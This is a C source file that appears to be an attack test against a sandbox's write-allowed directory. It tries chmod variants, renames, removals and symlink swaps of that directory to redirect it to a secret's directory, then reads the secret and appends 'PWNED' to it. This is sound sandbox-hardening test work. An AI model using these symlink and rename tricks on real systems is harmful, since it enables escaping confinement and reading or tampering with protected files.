/* The directory named by --allow-write W, as the program would like it to be
 * for the next, identical run: mode changed, removed, renamed, replaced by a
 * symlink to the secret's directory.
 *   replace_dir chmod W     every way to change W's mode from inside
 *   replace_dir replace W   every way to remove, rename or replace W
 *   replace_dir use W       (the next run) read and write the secret through W
 * Each attempt prints one line with its result; "main: ran" comes last. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

static const char* W;
static char secret_dir[256], secret_name[256], old[600], evil[600], dot[600];

static void report(const char* what, int rc) { printf("%s: %s\n", what, rc == 0 ? "DONE" : strerror(errno)); }

static int is_dir(const char* path) {
  struct stat st;
  return lstat(path, &st) == 0 && S_ISDIR(st.st_mode);
}

/* W's name is free: put a symlink to the secret's directory there. */
static void plant(const char* after) {
  struct stat st;
  if (lstat(W, &st) == 0 || errno != ENOENT) return;
  char what[200];
  snprintf(what, sizeof(what), "symlink in W's place after %s", after);
  report(what, symlink(secret_dir, W));
  if (lstat(W, &st) != 0) {
    snprintf(what, sizeof(what), "symlinkat in W's place after %s", after);
    report(what, symlinkat(secret_dir, AT_FDCWD, W));
  }
  if (lstat(W, &st) != 0) {
    snprintf(what, sizeof(what), "mkdir in W's place after %s", after);
    report(what, mkdir(W, 0777));
  }
}

static void empty(void) {
  DIR* d = opendir(W);
  if (d == NULL) return;
  for (struct dirent* e; (e = readdir(d)) != NULL;) {
    if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0) continue;
    char path[600];
    snprintf(path, sizeof(path), "%s/%s", W, e->d_name);
    if (unlink(path) != 0) rmdir(path);
  }
  closedir(d);
}

static void change_mode(void) {
  report("chmod W 0777", chmod(W, 0777));
  int fd = open(W, O_RDONLY | O_DIRECTORY);
  report("fchmod W 0700", fd < 0 ? -1 : fchmod(fd, 0700));
  if (fd >= 0) close(fd);
  report("fchmodat W 0711", fchmodat(AT_FDCWD, W, 0711, 0));
  report("chmod W/. 0777", chmod(dot, 0777));
  report("fchmodat2 W 0777", syscall(452 /* fchmodat2 */, AT_FDCWD, W, 0777, 0));
  fd = open(W, O_PATH | O_DIRECTORY);
  char proc[64];
  snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
  report("chmod /proc/self/fd/N of W 0777", fd < 0 ? -1 : chmod(proc, 0777));
  if (fd >= 0) close(fd);
}

static void replace(void) {
  int fd = open(W, O_RDONLY | O_DIRECTORY);

  /* Replaced by a symlink made inside it. */
  snprintf(evil, sizeof(evil), "%s/evil", W);
  report("symlink W/evil", symlink(secret_dir, evil));
  report("rename W/evil over W", rename(evil, W));
  report("renameat2 W/evil <-> W", renameat2(AT_FDCWD, evil, AT_FDCWD, W, RENAME_EXCHANGE));
  report("unlink W", unlink(W));
  report("unlinkat W AT_REMOVEDIR (not empty)", unlinkat(AT_FDCWD, W, AT_REMOVEDIR));

  /* Renamed away. */
  report("rename W W.old", rename(W, old));
  plant("rename");
  report("renameat2 W W.old NOREPLACE", renameat2(AT_FDCWD, W, AT_FDCWD, old, RENAME_NOREPLACE));
  plant("renameat2");

  /* Emptied and removed. */
  if (is_dir(W)) {
    empty();
    report("rmdir W (emptied)", rmdir(W));
    plant("rmdir");
  }
  if (is_dir(W)) {
    empty();
    report("unlinkat W AT_REMOVEDIR (emptied)", unlinkat(AT_FDCWD, W, AT_REMOVEDIR));
    plant("unlinkat");
  }
  /* From a descriptor of W: its own name relative to its parent. */
  if (is_dir(W)) {
    report("rmdir W/.", rmdir(dot));
    char up[600];
    snprintf(up, sizeof(up), "%s/../%s", W, strrchr(W, '/') + 1);
    report("rmdir W/../W", rmdir(up));
    plant("rmdir W/../W");
  }
  if (fd >= 0) close(fd);
}

static void use(void) {
  char path[700];
  snprintf(path, sizeof(path), "%s/%s", W, secret_name);
  int fd = open(path, O_RDONLY);
  if (fd >= 0) {
    char buf[256] = {0};
    ssize_t n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n > 0) buf[strcspn(buf, "\n")] = '\0';
    printf("read W/%s: LEAK %s\n", secret_name, n > 0 ? buf : "");
  } else {
    printf("read W/%s: %s\n", secret_name, strerror(errno));
  }
  fd = open(path, O_WRONLY | O_APPEND);
  report("append to W/secret", fd < 0 ? -1 : (write(fd, "PWNED\n", 6) == 6 ? 0 : -1));
  if (fd >= 0) close(fd);
  snprintf(path, sizeof(path), "%s/pwned", W);
  fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0644);
  report("create W/pwned", fd < 0 ? -1 : 0);
  if (fd >= 0) close(fd);
}

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  W = argv[2];
  strcpy(secret_dir, SECRET_PATH);
  *strrchr(secret_dir, '/') = '\0';
  strcpy(secret_name, strrchr(SECRET_PATH, '/') + 1);
  snprintf(old, sizeof(old), "%s.old", W);
  snprintf(dot, sizeof(dot), "%s/.", W);
  hx_attack("main");
  if (strcmp(argv[1], "chmod") == 0) change_mode();
  else if (strcmp(argv[1], "replace") == 0) replace();
  else if (strcmp(argv[1], "use") == 0) use();
  else return 2;
  printf("main: ran\n");
  return 0;
}
